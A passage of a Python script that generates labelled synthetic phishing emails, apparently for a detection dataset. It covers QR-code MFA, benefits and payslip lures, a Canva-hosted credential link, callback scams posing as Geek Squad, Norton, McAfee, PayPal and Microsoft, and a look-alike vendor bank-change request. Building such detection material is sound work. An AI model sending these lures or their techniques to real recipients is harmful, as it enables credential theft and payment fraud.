                  "Employee: Rachel Kim", f"Account: {rcpt}", "",
                  "Our records show your Microsoft Authenticator registration is out of date.",
                  "To avoid losing access to email, Teams and Okta, scan the QR code below",
                  "with your phone camera and complete the re-enrollment by 02/28/2025."],
                 qr_url, "MFA Re-enrollment",
                 below=["Scanning takes less than 2 minutes. Do not use a computer to complete this step.",
                        "Reference: SEC-MFA-" + str(num(s + 'ref', 10000, 99999))])
    inner = ('<div style="font-family:Aptos,Calibri,Helvetica,sans-serif;font-size:12pt;color:rgb(0,0,0)">Hello Rachel,<br><br>'
             'Please see the attached document for instructions to re-enroll your multi-factor authentication. '
             'Accounts not updated by <b>02/28/2025</b> will be temporarily locked.<br><br>Thank you,<br>IT Security Team</div>')
    plain = ("Hello Rachel,\n\nPlease see the attached document for instructions to re-enroll your multi-factor "
             "authentication. Accounts not updated by 02/28/2025 will be temporarily locked.\n\nThank you,\nIT Security Team\n")
    body = Multi("mixed", bnd(s + "m"), [alt(plain, owa_html(inner), bnd(s)),
                                         attachment("application/pdf", "MFA_Reenrollment_Rachel.Kim.pdf", pdf)])
    subj = "ACTION REQUIRED: Multi-Factor Authentication Re-enrollment (Rachel Kim)"
    hdr = f"""From: Brackenridge IT Security <admin@brackenridgeit.onmicrosoft.com>
To: Rachel Kim <{rcpt}>
Subject: {subj}
Thread-Topic: {subj}
Thread-Index: {thread_index(s)}
Date: {fmt(p['sent'])}
Message-ID: {p['msgid']}"""
    add(m, emit_parts(m, p, hdr, body))


def qr_related_html(html: str, plain: str, png: bytes, cid: str, seed: str, style: str = "ms") -> Multi:
    fname = cid.split("@")[0]
    fname = fname if fname.endswith(".png") else fname + ".png"
    return Multi("related", bnd(seed + "rel", style), [
        Multi("alternative", bnd(seed + "alt", style), [text(plain), text(html, "html")]),
        Leaf("image/png", png, "base64", f'; name="{fname}"',
             f'inline; filename="{fname}"', [f"Content-ID: <{cid}>"]),
    ], params=' type="multipart/alternative";')


def a14_qr_body_benefits():
    rcpt = f"angela.reyes@{US}"
    m = Mail("phish-qr-body-open-enrollment", "phishing",
             "Open-enrollment reminder from the look-alike domain brackenridge-benefits.com sent through Amazon SES, "
             "whose only call to action is an inline QR code image leading to a fake benefits portal that asks for the "
             "Microsoft 365 password.",
             "us", utc(2025, 10, 28, 12, 30, 11), rcpt)
    s = m.stem
    p = ses_block(m, "brackenridge-benefits.com")
    qr_target = f"https://oe2026-benefits-portal.com/brackenridge/?id={hx(s + 'id', 12)}&m={b64url_text(rcpt)}"
    png = files.qr_png(qr_target)
    cid = f"qr_{hx(s + 'cid', 8)}@benefits"
    html = f"""<html><head><meta charset="utf-8"></head><body style="margin:0;background:#eef2f5">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:28px 10px">
<table width="580" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Arial,Helvetica,sans-serif;color:#2d3a45">
<tr><td style="background:#00558c;color:#ffffff;padding:18px 28px;font-size:19px;font-weight:bold">2026 Open Enrollment &mdash; Brackenridge Fluid Systems</td></tr>
<tr><td style="padding:24px 28px 8px 28px;font-size:15px;line-height:23px">Hi Angela,<br><br>Open Enrollment for your 2026 medical, dental, vision and HSA benefits closes on <b>Friday, November 14</b>.
Our records show your elections have not been confirmed. If you do not confirm, you will be defaulted to employee-only coverage for 2026.</td></tr>
<tr><td align="center" style="padding:18px 28px"><img src="cid:{cid}" width="180" height="180" alt="Scan to review your elections" style="display:block"></td></tr>
<tr><td style="padding:0 28px 24px 28px;font-size:14px;line-height:21px;text-align:center">Scan the code with your phone camera to review and confirm your elections.<br>You will be asked to sign in with your work account.</td></tr>
<tr><td style="padding:14px 28px;font-size:11px;color:#7a8792;border-top:1px solid #e3e8ec">Benefits Administration &middot; Brackenridge Fluid Systems, Inc. &middot; Please do not reply to this message.</td></tr>
</table></td></tr></table></body></html>"""
    plain = ("Hi Angela,\n\nOpen Enrollment for your 2026 medical, dental, vision and HSA benefits closes on Friday, "
             "November 14. Our records show your elections have not been confirmed. If you do not confirm, you will be "
             "defaulted to employee-only coverage for 2026.\n\nScan the code in this email with your phone camera to review "
             "and confirm your elections.\n\nBenefits Administration\n")
    hdr = f"""From: Benefits Administration <benefits@brackenridge-benefits.com>
To: {rcpt}
Subject: 2026 Open Enrollment closes Nov 14 - confirm your elections
MIME-Version: 1.0
Message-ID: {p['msgid']}
Date: {fmt(p['sent'])}"""
    add(m, emit_parts(m, p, hdr, qr_related_html(html, plain, png, cid, s, "java")))


def a15_qr_uk_payslip():
    rcpt = f"daniel.okafor@{UK}"
    m = Mail("phish-qr-uk-payslip-portal", "phishing",
             "UK payroll 'payslip portal migration' sent from a compromised mailbox at a Leeds accountancy practice "
             "(Exchange Online, passes DMARC), with an embedded QR code that leads to a payslip-portal look-alike "
             "harvesting Microsoft 365 credentials.",
             "uk", utc(2025, 11, 18, 9, 14, 26), rcpt)
    s = m.stem
    p = exo_sender_block(m, domain="whitmorelowe.co.uk", sender="payroll@whitmorelowe.co.uk", region="uk")
    p["post"] = p["post"].replace("en-US", "en-GB")
    qr_target = f"https://payslip-portal-uk.com/brackenridge/?ref={hx(s + 'ref', 10)}"
    png = files.qr_png(qr_target)
    cid = f"image001.png@01DC{HX(s + 'cid1', 4)}.{HX(s + 'cid2', 8)}"
    inner = f"""<div style="font-family:Aptos,Calibri,Helvetica,sans-serif;font-size:11pt;color:rgb(0,0,0)">
<p>Dear colleague,</p><p>&nbsp;</p>
<p>Brackenridge Fluid Systems UK Ltd payroll is moving to a new employee self-service portal from the November pay run.
To continue receiving your payslips and to access your P60 history you must re-register before <b>28 November 2025</b>.</p><p>&nbsp;</p>
<p>Please scan the QR code below with your mobile phone and sign in with your work email address:</p><p>&nbsp;</p>
<p><img src="cid:{cid}" width="170" height="170" alt="QR"></p><p>&nbsp;</p>
<p>Employees who have not re-registered may experience a delay to their November salary.</p><p>&nbsp;</p>
<p>Kind regards,</p><p>Payroll Services<br>on behalf of Brackenridge Fluid Systems UK Ltd</p></div>"""
    plain = ("Dear colleague,\n\nBrackenridge Fluid Systems UK Ltd payroll is moving to a new employee self-service portal "
             "from the November pay run. To continue receiving your payslips and to access your P60 history you must "
             "re-register before 28 November 2025.\n\nPlease scan the QR code below with your mobile phone and sign in with "
             "your work email address:\n\n[QR]\n\nEmployees who have not re-registered may experience a delay to their "
             "November salary.\n\nKind regards,\nPayroll Services\non behalf of Brackenridge Fluid Systems UK Ltd\n")
    body = qr_related_html(owa_html(inner), plain, png, cid, s)
    subj = "Payslip portal migration - re-register by 28 November"
    hdr = f"""From: Payroll Services <payroll@whitmorelowe.co.uk>
To: Payroll Services <payroll@whitmorelowe.co.uk>
Subject: {subj}
Thread-Topic: {subj}
Thread-Index: {thread_index(s)}
Date: {fmt(p['sent'])}
Message-ID: {p['msgid']}"""
    p["ctry"] = "GB"
    add(m, emit_parts(m, p, hdr, body))


def a16_hr_handbook_canva():
    rcpt = f"ashley.monroe@{US}"
    m = Mail("phish-hr-handbook-canva", "phishing",
             "'Updated employee handbook' acknowledgement request from a free Zoho Mail address using the HR "
             "department's name; the link is a genuine Canva design page that in turn links to a Microsoft 365 "
             "credential page, so the mail itself only shows canva.com.",
             "us", utc(2025, 1, 8, 16, 40, 2), rcpt)
    s = m.stem
    p = zoho_block(m, "zohomail.com", "hr.brackenridgefluid@zohomail.com")
    link = (f"https://www.canva.com/design/DAG{alnum(s + 'cv', 8)}/{alnum(s + 'cv2', 22)}/view?utm_content=DAG"
            f"{alnum(s + 'cv', 8)}&utm_campaign=designshare&utm_medium=link2&utm_source=uniquelinks&utlId=h{hx(s + 'ut', 9)}")
    html = f"""<div style="font-family: Verdana, Arial, Helvetica, sans-serif; font-size: 10pt;"><div>Good afternoon,<br></div><div><br></div>
<div>The 2025 Employee Handbook has been updated (PTO carry-over, hybrid work and travel expense policy). All employees are required to review and acknowledge the updated handbook by <b>Friday, January 10</b>.<br></div><div><br></div>
<div>Access the handbook here: <a href="{link}" target="_blank">Brackenridge 2025 Employee Handbook</a><br></div><div><br></div>
<div>Thank you,<br></div><div>Human Resources Department<br></div><div>Brackenridge Fluid Systems, Inc.<br></div></div><br>"""
    plain = ("Good afternoon,\n\nThe 2025 Employee Handbook has been updated (PTO carry-over, hybrid work and travel "
             "expense policy). All employees are required to review and acknowledge the updated handbook by Friday, "
             f"January 10.\n\nAccess the handbook here: Brackenridge 2025 Employee Handbook ( {link} )\n\nThank you,\n"
             "Human Resources Department\nBrackenridge Fluid Systems, Inc.\n")
    hdr = f"""Date: Wed, 08 Jan 2025 08:40:00 -0800
From: Brackenridge HR Department <hr.brackenridgefluid@zohomail.com>
Reply-To: hr.brackenridgefluid@zohomail.com
To: "{rcpt}" <{rcpt}>
Message-Id: {p['msgid']}
Subject: Updated Employee Handbook 2025 - Acknowledgement Required
MIME-Version: 1.0"""
    add(m, emit_parts(m, p, hdr, alt(plain, html, f"----=_Part_{num(s, 100000, 999999)}_{num(s + 'z', 10000000, 99999999)}.{ts(p['sent'])}000", enc="7bit")))


def a17_salary_review_docx():
    rcpt = f"rebecca.hollins@{UK}"
    m = Mail("phish-salary-review-docx-outlookcom", "phishing",
             "'Confidential 2025 salary review letter' from a free Outlook.com address using the UK HR manager's name, "
             "with a Word document whose text sends the reader to a shortened link (rb.gy) to 'sign in and view the "
             "letter' on a credential page.",
             "uk", utc(2025, 3, 18, 11, 2, 45), rcpt)
    s = m.stem
    p = exo_sender_block(m, domain="outlook.com", sender="chloe.marsh.hr@outlook.com", consumer=True, has_attach=True)
    p["ctry"] = "NG"
    short = "https://rb.gy/x7k2qp"
    doc = files.docx(["Brackenridge Fluid Systems UK Ltd", "PRIVATE AND CONFIDENTIAL", "", "Dear Rebecca Hollins,",
                      "Following the 2025 annual pay review, your revised salary and bonus eligibility have been approved "
                      "by the Remuneration Committee.",
                      "For data protection reasons the letter is held in the secure HR document store. To view your "
                      "revised salary letter, sign in with your Brackenridge Microsoft 365 account at:",
                      short, "Please acknowledge the letter by 21 March 2025 so the change can be applied to April payroll.",
                      "Kind regards,", "Chloe Marsh", "HR Manager, UK"],
                     title="Salary Review 2025", author="Chloe Marsh")
    inner = ('<div style="font-family:Aptos,Calibri,Helvetica,sans-serif;font-size:12pt;color:rgb(0,0,0)">Hi Rebecca,<br><br>'
             'Please find attached your confidential salary review letter for 2025. Kindly review and acknowledge by Friday.<br><br>'
             'Kind regards,<br>Chloe Marsh<br>HR Manager, UK</div>')
    plain = ("Hi Rebecca,\n\nPlease find attached your confidential salary review letter for 2025. Kindly review and "
             "acknowledge by Friday.\n\nKind regards,\nChloe Marsh\nHR Manager, UK\n")
    body = Multi("mixed", bnd(s + "m"), [
        alt(plain, owa_html(inner), bnd(s)),
        attachment("application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                   "Salary_Review_2025_Rebecca_Hollins.docx", doc)])
    subj = "Confidential: 2025 Salary Review Letter - Rebecca Hollins"
    hdr = f"""From: Chloe Marsh <chloe.marsh.hr@outlook.com>
To: "{rcpt}" <{rcpt}>
Subject: {subj}
Thread-Topic: {subj}
Thread-Index: {thread_index(s)}
Date: {fmt(p['sent'])}
Message-ID: {p['msgid']}"""
    add(m, emit_parts(m, p, hdr, body))


def a18_callback_geeksquad():
    rcpt = f"steve.kowalczyk@{US}"
    m = Mail("phish-callback-geeksquad-gmail-pdf", "phishing",
             "Callback scam: terse Gmail message 'thank you for your purchase' with a PDF invoice for a $449.99 Geek "
             "Squad renewal whose only call to action is a phone number to cancel; no links, the fraud happens on the call.",
             "us", utc(2025, 2, 4, 17, 33, 12), rcpt)
    s = m.stem
    p = google_sender_block(m, domain="gmail.com", gmail=True)
    inv = f"GS-{num(s + 'inv', 84000000, 84999999)}"
    pdf = files.pdf(["GEEK SQUAD TOTAL TECH SUPPORT", "", f"INVOICE NUMBER: {inv}", "DATE: 02/04/2025",
                     "CUSTOMER ID: BB-3307-91842", "", "DESCRIPTION                          QTY     PRICE",
                     "Total Tech Support - 2 Years          1     $449.99", "Device Protection (5 devices)         1     Included",
                     "", "SUB TOTAL: $449.99", "TAX: $0.00", "TOTAL: $449.99", "",
                     "PAYMENT METHOD: Auto-debit", "", "Your subscription has been renewed successfully and the amount",
                     "will be debited from your account within 24 hours.",
                     "If you did not authorize this renewal or wish to cancel, please contact",
                     "our billing department within 24 hours:  +1 (808) 555-0139", "",
                     "Thank you for choosing Geek Squad."], title=f"Invoice {inv}")
    html = gmail_html("Dear Customer,<div><br></div><div>Thank you for your purchase. Your invoice is attached.</div>"
                      "<div><br></div><div>Regards</div><div>Billing Team</div>")
    plain = "Dear Customer,\n\nThank you for your purchase. Your invoice is attached.\n\nRegards\nBilling Team\n"
    body = Multi("mixed", bnd(s, "gmail"), [
        alt(plain, html, bnd(s + "a", "gmail")),
        Leaf("application/pdf", pdf, "base64", f'; name="{inv}.pdf"', f'attachment; filename="{inv}.pdf"',
             [f"Content-ID: <f_{lower_alnum(s + 'cid', 11)}0>", f"X-Attachment-Id: f_{lower_alnum(s + 'cid', 11)}0"]),
    ])
    hdr = f"""MIME-Version: 1.0
From: Lisa Harwood <lisaharwood6312@gmail.com>
Date: {fmt(p['sent'], p['off'])}
Message-ID: {p['msgid']}
Subject: Order Confirmation #{inv}
To: {rcpt}"""
    add(m, emit_parts(m, p, hdr, body))


def a19_callback_norton():
    rcpt = f"linda.fairchild@{US}"
    m = Mail("phish-callback-norton-outlookcom", "phishing",
             "Callback scam from a free Outlook.com account: an HTML 'Norton 360 with LifeLock' renewal receipt for "
             "$389.99 with a toll-free number to dispute the charge, no links or attachments.",
             "us", utc(2025, 6, 24, 21, 8, 40), rcpt)
    s = m.stem
    p = exo_sender_block(m, domain="outlook.com", sender="jaredmillerbilling@outlook.com", consumer=True)
    order = f"NT{num(s + 'o', 10000000, 99999999)}"
    inner = f"""<div style="font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#222">
<p style="font-size:22px;font-weight:bold;color:#f5c400;background:#111;padding:12px 16px;margin:0">Norton<span style="color:#fff">LifeLock</span></p>
<p>Dear Customer,</p>
<p>Your <b>Norton 360 Deluxe with LifeLock Select</b> subscription has been renewed for another year. The charge will appear on your statement within 24-48 hours.</p>
<table cellpadding="8" cellspacing="0" border="1" style="border-collapse:collapse;border-color:#ddd;font-size:13px">
<tr style="background:#f4f4f4"><td><b>Order ID</b></td><td>{order}</td></tr>
<tr><td><b>Product</b></td><td>Norton 360 Deluxe + LifeLock Select (1 Year)</td></tr>
<tr><td><b>Devices</b></td><td>5 PCs, Macs, smartphones or tablets</td></tr>
<tr><td><b>Date</b></td><td>06/24/2025</td></tr>
<tr><td><b>Payment</b></td><td>Auto-renewal</td></tr>
<tr style="background:#f4f4f4"><td><b>Total</b></td><td><b>$389.99</b></td></tr></table>
<p>If you did not authorize this renewal, you can request a refund within 48 hours by calling our billing support at <b>+1 (844) 555-0192</b>.</p>
<p>Thanks,<br>Norton Billing Support</p></div>"""
    plain = (f"NortonLifeLock\n\nDear Customer,\n\nYour Norton 360 Deluxe with LifeLock Select subscription has been renewed "
             f"for another year. The charge will appear on your statement within 24-48 hours.\n\nOrder ID: {order}\n"
             "Product: Norton 360 Deluxe + LifeLock Select (1 Year)\nDevices: 5\nDate: 06/24/2025\nPayment: Auto-renewal\n"
             "Total: $389.99\n\nIf you did not authorize this renewal, you can request a refund within 48 hours by calling "
             "our billing support at +1 (844) 555-0192.\n\nThanks,\nNorton Billing Support\n")
    subj = f"Transaction Receipt #{order}"
    hdr = f"""From: Jared Miller <jaredmillerbilling@outlook.com>
To: "{rcpt}" <{rcpt}>
Subject: {subj}
Thread-Topic: {subj}
Thread-Index: {thread_index(s)}
Date: {fmt(p['sent'])}
Message-ID: {p['msgid']}"""
    add(m, emit_parts(m, p, hdr, alt(plain, owa_html(inner), bnd(s))))


def paypal_block(m: Mail) -> dict:
    s = m.stem
    sent = m.sent(1)
    ip = f"173.0.84.{num(s + 'pp', 225, 228)}"
    helo = f"mx{num(s + 'ppm', 0, 3)}.slc.paypal.com"
    pre = "\n".join([
        dkim("paypal.com", "pp-dkim1", "Content-Type:Date:Message-ID:Subject:From:To:MIME-Version", s + "pp", t=ts(sent),
             style="tab"),
        fold(f"Received: from ccg{num(s + 'ccg', 10, 40)}mail{num(s + 'ccm', 1, 9)}.ccg{num(s + 'ccg', 10, 40)}.slc.paypalinc.com "
             f"(ccg{num(s + 'ccg', 10, 40)}mail{num(s + 'ccm', 1, 9)}.ccg{num(s + 'ccg', 10, 40)}.slc.paypalinc.com [10.{num(s + 'a', 1, 250)}.{num(s + 'b', 1, 250)}.{num(s + 'c', 1, 250)}]) "
             f"by {helo} (Postfix) with ESMTP id {HX(s + 'qid', 11)} for <{m.rcpt}>; {fmt(sent, pt_off(sent)[0])}", indent="\t"),
    ])
    return dict(ip=ip, helo=helo, mailfrom="paypal.com", spf="pass", dkim_res="pass", dkim_d="paypal.com",
                hfrom="paypal.com", dmarc="pass", action="none", tls="TLS1_2", pre=pre, sent=sent,
                return_path="<service@paypal.com>")


def paypal_html(headline: str, rows: list[tuple[str, str]], note_title: str, note: str, button: str, link: str) -> str:
    trs = "".join(f'<tr><td style="padding:6px 0;color:#687173;font-size:14px">{k}</td><td align="right" style="padding:6px 0;font-size:14px;color:#2c2e2f">{v}</td></tr>' for k, v in rows)
    note_html = (f'<tr><td style="padding:8px 32px 16px 32px"><table width="100%" cellpadding="0" cellspacing="0" style="background:#f5f7fa"><tr><td style="padding:14px 16px;font-size:14px;color:#2c2e2f;line-height:20px"><b>{note_title}</b><br>{note}</td></tr></table></td></tr>' if note else "")
    btn = (f'<tr><td align="center" style="padding:10px 32px 28px 32px"><a href="{link}" style="background:#0070e0;color:#ffffff;font-size:16px;font-weight:bold;text-decoration:none;padding:12px 38px;border-radius:24px;display:inline-block">{button}</a></td></tr>' if button else "")
    return f"""<!DOCTYPE html><html dir="ltr"><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"><meta name="viewport" content="width=device-width"></head>
<body style="margin:0;padding:0;background:#ffffff">
<table width="100%" cellpadding="0" cellspacing="0" border="0" style="font-family:'PayPal Sans Big',Helvetica,Arial,sans-serif"><tr><td align="center">
<table width="600" cellpadding="0" cellspacing="0" border="0">
<tr><td style="padding:28px 32px 8px 32px"><img src="https://www.paypalobjects.com/digitalassets/c/system-triggered-email/n/layout/images/paypal-rebranding/pp-logo-in-circle-2x.png" width="36" height="36" alt="PayPal"></td></tr>
<tr><td style="padding:14px 32px 12px 32px;font-size:26px;line-height:32px;color:#000000;font-weight:bold">{headline}</td></tr>
<tr><td style="padding:0 32px 12px 32px"><table width="100%" cellpadding="0" cellspacing="0">{trs}</table></td></tr>
{note_html}{btn}
<tr><td style="padding:20px 32px;font-size:12px;color:#687173;line-height:18px;border-top:1px solid #e5e5e5"><a href="https://www.paypal.com/us/cshelp/personal" style="color:#0070e0">Help &amp; Contact</a> | <a href="https://www.paypal.com/us/webapps/mpp/paypal-safety-and-security" style="color:#0070e0">Security</a> | <a href="https://www.paypal.com/us/home" style="color:#0070e0">Apps</a><br><br>
PayPal is committed to preventing fraudulent emails. Emails from PayPal will always contain your full name.<br><br>
Copyright &copy; 1999-2025 PayPal, Inc. All rights reserved. PayPal is located at 2211 N. First St., San Jose, CA 95131.</td></tr>
</table></td></tr></table>
<img src="https://t.paypal.com/ts?nojs=1&amp;pgrp=main%3Aemail&amp;page=main%3Aemail%3A{hx(headline, 8)}&amp;e=op&amp;mchn=em&amp;s=ci&amp;mail=sys" height="1" width="1" border="0" alt="">
</body></html>"""


def a20_callback_paypal_genuine():
    rcpt = f"brian.lutz@{US}"
    m = Mail("phish-callback-paypal-genuine-invoice", "phishing",
             "Genuine PayPal invoice (service@paypal.com, passes authentication) created by a scammer merchant account "
             "'GS Tech Protection Services'; the merchant note claims a $499.99 Geek Squad renewal and gives a phone "
             "number to 'cancel', so the callback lure arrives through PayPal's own infrastructure.",
             "us", utc(2025, 8, 5, 15, 19, 33), rcpt)
    s = m.stem
    p = paypal_block(m)
    inv_id = f"INV2-{HX(s + 'i1', 4)}-{HX(s + 'i2', 4)}-{HX(s + 'i3', 4)}-{HX(s + 'i4', 4)}"
    link = f"https://www.paypal.com/invoice/p/#{inv_id}"
    note = ("Your Geek Squad Total Protection subscription has been renewed for 3 years and $499.99 will be charged to "
            "your account. If you did not authorize this transaction or wish to cancel and get a refund, contact our "
            "support team immediately at +1 (888) 555-0175.")
    html = paypal_html("GS Tech Protection Services sent you an invoice for $499.99 USD",
                       [("Invoice number", "0117"), ("Due date", "Aug 6, 2025"), ("Amount due", "$499.99 USD")],
                       "Note from seller", note, "View and Pay Invoice", link)
    plain = ("GS Tech Protection Services sent you an invoice for $499.99 USD\n\nInvoice number: 0117\nDue date: Aug 6, 2025\n"
             f"Amount due: $499.99 USD\n\nNote from seller\n{note}\n\nView and Pay Invoice\n{link}\n\n"
             "Copyright (c) 1999-2025 PayPal, Inc. All rights reserved.\n")
    hdr = f"""Date: {fmt(p['sent'], pt_off(p['sent'])[0])}
Message-ID: <{hx(s + 'ppid', 13)}.{num(s + 'ppn', 1000000000000000, 9999999999999999)}@paypal.com>
From: "service@paypal.com" <service@paypal.com>
To: Brian Lutz <{rcpt}>
Subject: Invoice from GS Tech Protection Services (0117)
MIME-Version: 1.0
X-MaxCode-Template: PPC001017
X-Email-Type-Id: PPC001017
PP-Correlation-Id: {hx(s + 'corr', 13)}
X-XPT-XSL-Name: nodeMailer"""
    add(m, emit_parts(m, p, hdr, alt(plain, html, bnd(s, "java"))))


def a21_callback_mcafee_onmicrosoft():
    rcpt = f"greg.nuttall@{UK}"
    m = Mail("phish-callback-mcafee-onmicrosoft-pdf", "phishing",
             "McAfee renewal callback scam sent from a throwaway Microsoft 365 trial tenant (*.onmicrosoft.com, passes "
             "authentication) with a PDF invoice carrying the phone number to call for a 'refund'.",
             "uk", utc(2025, 5, 20, 13, 55, 17), rcpt)
    s = m.stem
    p = exo_sender_block(m, domain="zt7hq2.onmicrosoft.com", sender="billing@zt7hq2.onmicrosoft.com", has_attach=True)
    inv = f"MC-{num(s + 'inv', 20000000, 29999999)}"
    pdf = files.pdf(["McAfee+ Premium - Annual Renewal", "", f"Invoice No: {inv}", "Invoice Date: 20/05/2025",
                     f"Bill To: {rcpt}", "", "Item                                   Term        Amount",
                     "McAfee+ Premium Family (10 devices)    12 months   GBP 319.99", "Identity Monitoring                    12 months   Included",
                     "", "Total charged:  GBP 319.99", "", "This renewal will be charged automatically to your payment method on file.",
                     "To cancel the renewal or request a refund, call our customer desk within 48 hours:",
                     "+1 (844) 555-0183  (24x7)", "", "McAfee, LLC. All rights reserved."], title=f"{inv}")
    inner = ('<div style="font-family:Aptos,Calibri,Helvetica,sans-serif;font-size:12pt;color:rgb(0,0,0)">'
             f'Hello {rcpt.split("@")[0]},<br><br>Your McAfee plan has been renewed successfully. Please find your invoice attached for your records.'
             '<br><br>Regards,<br>McAfee Billing</div>')
    plain = (f"Hello {rcpt.split('@')[0]},\n\nYour McAfee plan has been renewed successfully. Please find your invoice "
             "attached for your records.\n\nRegards,\nMcAfee Billing\n")
    body = Multi("mixed", bnd(s + "m"), [alt(plain, owa_html(inner), bnd(s)),
                                         attachment("application/pdf", f"Invoice_{inv}.pdf", pdf)])
    subj = f"Renewal Confirmation: {inv}"
    hdr = f"""From: McAfee Billing <billing@zt7hq2.onmicrosoft.com>
To: "{rcpt}" <{rcpt}>
Subject: {subj}
Thread-Topic: {subj}
Thread-Index: {thread_index(s)}
Date: {fmt(p['sent'])}
Message-ID: {p['msgid']}"""
    add(m, emit_parts(m, p, hdr, body))


def ms_commerce_html(title: str, intro: str, rows: list[tuple[str, str]], cta: str, link: str, footer: str) -> str:
    trs = "".join(f'<tr><td style="padding:6px 12px 6px 0;font-size:14px;color:#605e5c;width:200px">{k}</td><td style="padding:6px 0;font-size:14px;color:#323130">{v}</td></tr>' for k, v in rows)
    return f"""<!DOCTYPE html><html lang="en"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" content="width=device-width, initial-scale=1"></head>
<body style="margin:0;padding:0;background:#f3f2f1">
<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0" style="background:#f3f2f1"><tr><td align="center" style="padding:24px 0">
<table role="presentation" width="640" cellpadding="0" cellspacing="0" border="0" style="background:#ffffff;font-family:'Segoe UI',SegoeUI,Tahoma,Arial,sans-serif">
<tr><td style="padding:28px 40px 10px 40px"><img src="https://img-prod-cms-rt-microsoft-com.akamaized.net/cms/api/am/imageFileData/RE1Mu3b?ver=5c31" width="108" alt="Microsoft"></td></tr>
<tr><td style="padding:12px 40px;font-size:28px;color:#323130;font-weight:600">{title}</td></tr>
<tr><td style="padding:0 40px 12px 40px;font-size:15px;color:#323130;line-height:22px">{intro}</td></tr>
<tr><td style="padding:6px 40px 16px 40px"><table role="presentation" cellpadding="0" cellspacing="0" border="0">{trs}</table></td></tr>
<tr><td style="padding:6px 40px 30px 40px"><a href="{link}" style="background:#0078d4;color:#ffffff;font-size:15px;font-weight:600;padding:10px 22px;text-decoration:none;display:inline-block">{cta}</a></td></tr>
<tr><td style="padding:20px 40px 30px 40px;font-size:12px;color:#605e5c;line-height:18px;border-top:1px solid #edebe9">{footer}<br><br>
<a href="https://go.microsoft.com/fwlink/?LinkId=521839" style="color:#0078d4">Privacy Statement</a><br>Microsoft Corporation, One Microsoft Way, Redmond, WA 98052 USA</td></tr>
</table></td></tr></table></body></html>"""


def a22_callback_ms_billing_genuine():
    rcpt = f"brian.lutz@{US}"
    m = Mail("phish-callback-microsoft-tenant-orgname", "phishing",
             "Genuine Microsoft 365 purchase confirmation from microsoft-noreply@microsoft.com (passes authentication) "
             "generated by an attacker's own trial tenant in which the victim was added as a contact; the tenant's "
             "organisation name field carries a 'billing support' phone number, turning a real Microsoft mail into a "
             "callback scam.",
             "us", utc(2025, 9, 23, 18, 2, 49), rcpt)
    s = m.stem
    p = exo_sender_block(m, domain="microsoft.com", sender="microsoft-noreply@microsoft.com")
    p["msgid"] = f"<{guid(s + 'mcid')}@az.westus2.microsoft.com>"
    org = "MS Billing Dept - refund or cancel call +1 (888) 555-0164"
    link = "https://admin.microsoft.com/Adminportal/Home#/subscriptions"
    html = ms_commerce_html(
        "Thanks for your purchase",
        f"Your organization, <b>{org}</b>, has purchased a new subscription. It can take up to 24 hours for the charge "
        "to appear.",
        [("Organization", org), ("Product", "Microsoft 365 E5 (no Teams)"), ("Licenses", "25"),
         ("Billing frequency", "Annual commitment, paid yearly"), ("Total charged", "USD 14,025.00"),
         ("Order number", f"{num(s + 'ord', 10000000000, 99999999999)}")],
        "Manage subscriptions", link,
        f"This is a mandatory service communication. To set your contact preferences for other communications, visit the "
        f"Promotional Communications Manager. You are receiving this email because you are listed as a billing contact for "
        f"{org}.")
    plain = (f"Thanks for your purchase\n\nYour organization, {org}, has purchased a new subscription. It can take up to "
             f"24 hours for the charge to appear.\n\nOrganization: {org}\nProduct: Microsoft 365 E5 (no Teams)\nLicenses: 25\n"
             "Billing frequency: Annual commitment, paid yearly\nTotal charged: USD 14,025.00\n\nManage subscriptions "
             f"<{link}>\n\nMicrosoft Corporation, One Microsoft Way, Redmond, WA 98052 USA\n")
    hdr = f"""From: Microsoft <microsoft-noreply@microsoft.com>
To: <{rcpt}>
Subject: You've purchased Microsoft 365 E5 (no Teams)
Date: {fmt(p['sent'])}
Message-ID: {p['msgid']}
X-MS-Exchange-Organization-MessageCategory: Commerce"""
    p["post"] = ""
    add(m, emit_parts(m, p, hdr, alt(plain, html, bnd(s, "java"))))


def a23_vendor_bank_change_lookalike():
    rcpt = f"teresa.gullickson@{US}"
    m = Mail("phish-vendor-ach-change-lookalike-domain", "phishing",
             "Vendor bank-change request from ardentpkgs.com, a look-alike of the real supplier ardentpkg.com hosted on "
             "Google Workspace (passes authentication), with a forged 'ACH change notice' PDF and a request to update "
             "remittance before the next payment run: invoice fraud.",
             "us", utc(2025, 9, 16, 14, 37, 6), rcpt)
    s = m.stem
    p = google_sender_block(m, domain="ardentpkgs.com")
    pdf = files.pdf(["ARDENT PACKAGING SUPPLY, INC.", "2290 Valley Pike, Dayton, OH 45404  |  (937) 555-0110", "",
                     "NOTICE OF CHANGE OF REMITTANCE INFORMATION", "", "Date: September 15, 2025", "",
                     "To our valued customers,", "",
                     "Please be advised that effective immediately, Ardent Packaging Supply, Inc. has changed",
                     "its receiving bank following our annual treasury audit. All ACH and wire payments",
                     "for open and future invoices should be remitted to the account below:", "",
                     "Bank Name: Cadence Bank, N.A.", "Account Name: Ardent Packaging Supply Inc", "ABA Routing: 062206295",
                     "Account Number: 4418820371", "", "Payments sent to the previous account after this date may be delayed.",
                     "", "Rhonda Sauer", "Accounts Receivable Manager"], title="ACH Change Notice")
    sig = ('<div><br></div><div>Thank you,</div><div><br></div><div><b>Rhonda Sauer</b></div><div>Accounts Receivable Manager</div>'
           '<div>Ardent Packaging Supply, Inc.</div><div>2290 Valley Pike, Dayton, OH 45404</div><div>O: (937) 555-0110 x214</div>')
    html = gmail_html("<div>Good morning Teresa,</div><div><br></div><div>I hope all is well. Please see the attached notice "
                      "regarding our updated remittance information. Our bank account has been changed following our annual audit, "
                      "so we kindly ask that you update our vendor profile before your next payment run.</div><div><br></div>"
                      "<div>Could you also let me know when you expect to release payment for the open invoices (10391, 10417 "
                      "and 10440)? Please confirm once the update has been made.</div>" + sig)
    plain = ("Good morning Teresa,\n\nI hope all is well. Please see the attached notice regarding our updated remittance "
             "information. Our bank account has been changed following our annual audit, so we kindly ask that you update "
             "our vendor profile before your next payment run.\n\nCould you also let me know when you expect to release "
             "payment for the open invoices (10391, 10417 and 10440)? Please confirm once the update has been made.\n\n"
